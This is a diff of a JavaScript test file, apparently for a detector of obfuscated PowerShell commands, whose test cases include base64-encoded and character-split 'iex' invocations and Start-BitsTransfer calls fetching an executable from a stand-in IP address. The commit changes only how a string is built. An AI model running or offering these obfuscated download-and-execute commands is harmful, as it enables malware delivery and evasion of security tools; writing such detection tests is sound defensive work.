@@ -123,7 +123,7 @@ test.each([
   `powershell -c "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${encoded(start)}')))"`,
   `powershell -c "iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('${Buffer.from(start).toString('base64')}')))"`,
   `powershell -c "$s=[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('${Buffer.from(start).toString('base64')}')); Invoke-Expression $s"`,
-  `powershell -c "iex (-join ([char[]](${[...start].map((c) => c.charCodeAt(0)).join(',')})))"`,
+  `powershell -c "iex (-join ([char[]](${Array.from(start, (c) => c.charCodeAt(0)).join(',')})))"`,
   `powershell -c "& (-join('S','tart-B','itsTransfer')) http://198.51.100.7/a.bin C:\\d\\a.exe"`,
   `powershell -c "& ('S','tart-B','itsTransfer' -join '') http://198.51.100.7/a.bin C:\\d\\a.exe"`,
   `powershell -c "& ([char]83+'tart-BitsTransfer') http://198.51.100.7/a.bin C:\\d\\a.exe"`,
